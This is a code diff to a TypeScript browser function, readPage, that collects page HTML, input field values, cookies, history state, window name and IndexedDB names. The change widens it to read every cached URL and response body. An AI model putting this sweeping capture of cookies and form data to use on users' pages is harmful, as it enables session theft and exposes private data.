@@ -110,7 +110,12 @@ async function readPage(): Promise<Record<string, string>> {
     (field) => (field as HTMLInputElement).value,
   );
   const databases = await indexedDB.databases();
-  const isSecure = 'caches' in window;
+  const cached = 'caches' in window ? await caches.keys() : [];
+  const answers = cached.map(async (name) => {
+    const cache = await caches.open(name);
+    const bodies = (await cache.matchAll()).map((answer) => answer.text());
+    return [name, ...(await cache.keys()).map(({ url }) => url), ...(await Promise.all(bodies))];
+  });
   return {
     'the document': document.documentElement.outerHTML + fields.join('\n'),
     'the title': document.title,
@@ -118,7 +123,7 @@ async function readPage(): Promise<Record<string, string>> {
     'a cookie': document.cookie,
     'the history state': JSON.stringify(history.state) ?? '',
     'the window name': window.name,
-    'a cache': isSecure ? (await caches.keys()).join() : '',
+    'a cache': (await Promise.all(answers)).flat().join(),
     'a database': databases.map(({ name }) => name).join(),
   };
 }
